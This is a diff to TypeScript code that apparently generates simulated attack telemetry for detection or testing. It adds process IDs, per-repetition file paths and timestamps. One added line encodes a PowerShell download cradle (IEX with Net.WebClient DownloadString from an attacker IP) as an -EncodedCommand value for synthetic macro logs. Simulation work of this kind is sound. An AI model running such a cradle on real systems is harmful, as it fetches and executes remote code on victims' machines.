@@ -14,6 +14,8 @@ import { Rng } from '../util/rng.js';
 import type { ScenariosConfig } from './config.js';
 import type { Attacker } from '../traffic/shard-source.js';
 import { ATTACKER_AGENTS, ATTACKER_BROWSERS, ATTACKER_NETWORKS } from './library/attackers.js';
+import { SHARE_FILES } from './library/files.js';
+import { fnv1a } from '../util/hash.js';
 import type { Delay, ScenarioSpec, Seasonality, StepSpec } from './types.js';
 
 const DAY_MS = 86_400_000;
@@ -175,7 +177,14 @@ export function instanceVars(actor: Actor, server: Server | null, attackerIp: st
     'victim.host_ip': actor.workstation_ip ?? '-',
     'server.host': server?.hostname ?? '-',
     'server.ip': server?.ip ?? '-',
+    // Processes the attack starts on hosts: their GUIDs and pids, the same wherever a step names them (parent, child).
+    ...Object.fromEntries([1, 2, 3, 4, 5, 6, 7, 8].flatMap((n) => [
+      [`guid.${n}`, `${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}`],
+      [`pid.${n}`, String(4 * (500 + rng.int(3500)))],
+    ])),
     name: `${stem}-${hex(rng, 6)}`,
+    // The download cradle a macro hands to PowerShell, as -EncodedCommand takes it (UTF-16LE, base64).
+    'attacker.ps_enc': Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${attackerIp}/a')`, 'utf16le').toString('base64'),
     hex8: hex(rng, 8),
     hex16: hex(rng, 16),
     port: String(32_768 + rng.int(28_000)),
@@ -264,14 +273,6 @@ export function planScenarios(
           const offset = delayMs(rng, step.after);
           if (along === undefined) t += offset;
           const times = along !== undefined ? along.length : step.repeat ? step.repeat.min + rng.int(step.repeat.max - step.repeat.min + 1) : 1;
-          vars['step.sequence'] = String(order + 1);
-          // Dates inside a record (a created user's createDate): the step's own time, as the API writes them.
-          vars['time.iso'] = new Date(Math.floor(t + (along === undefined ? 0 : offset))).toISOString().slice(0, 19) + 'Z';
-          vars['time.java'] = javaDate(Math.floor(t), '');
-          vars['time.java_comma'] = javaDate(Math.floor(t), ',');
-          vars['time.lambda'] = new Date(Math.floor(t)).toISOString().slice(0, 23) + '+0000';
-          const values = Object.fromEntries(Object.entries(step.values ?? {}).map(([key, v]) => [key, fill(v, vars)]));
-          const record = step.record ? (fillDeep(step.record, vars) as Record<string, unknown>) : undefined;
           const host = step.host === 'server' ? server!.hostname : step.host === 'workstation' ? (actor.workstation_hostname ?? undefined) : undefined;
           const at: number[] = [];
           for (let r = 0; r < times; r++) {
@@ -280,6 +281,20 @@ export function planScenarios(
               if (r > 0) t += delayMs(rng, step.repeat!.gap);
               at.push(t);
             }
+            const when = Math.floor(at[r]);
+            vars['step.sequence'] = String(order + 1);
+            // Each repetition's own: its number, a file it touches; dates inside a record (a created user's
+            // createDate) are the step's own time, as the API writes them.
+            vars.rep = String(r + 1);
+            const file = SHARE_FILES[(r * 7 + fnv1a(instance)) % SHARE_FILES.length].replace('#', String(1 + ((r * 13) % 97)));
+            vars['rep.dir'] = file.slice(0, file.lastIndexOf('\\'));
+            vars['rep.file'] = file.slice(file.lastIndexOf('\\') + 1);
+            vars['time.iso'] = new Date(when).toISOString().slice(0, 19) + 'Z';
+            vars['time.java'] = javaDate(when, '');
+            vars['time.java_comma'] = javaDate(when, ',');
+            vars['time.lambda'] = new Date(when).toISOString().slice(0, 23) + '+0000';
+            const values = Object.fromEntries(Object.entries(step.values ?? {}).map(([key, v]) => [key, fill(v, vars)]));
+            const record = step.record ? (fillDeep(step.record, vars) as Record<string, unknown>) : undefined;
             steps.push({ timeMs: Math.floor(at[r]), victim, scenario: s, step, instance, order: order++, values, record, host, attacker });
           }
           stepTimes.set(step.name, at);
